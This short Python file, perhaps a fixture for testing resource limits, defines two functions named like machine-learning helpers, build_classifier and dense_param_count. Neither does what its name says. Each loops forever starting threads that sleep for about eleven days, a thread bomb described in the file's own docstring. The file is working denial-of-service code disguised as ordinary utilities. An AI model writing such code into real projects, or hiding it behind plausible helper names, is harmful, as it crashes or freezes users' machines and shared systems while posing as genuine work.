"""Starts sleeping threads until it cannot start more."""
import threading
import time


def build_classifier(num_features, num_classes, units):
    while True:
        threading.Thread(target=time.sleep, args=(10**6,)).start()


def dense_param_count(inputs, units):
    while True:
        threading.Thread(target=time.sleep, args=(10**6,)).start()
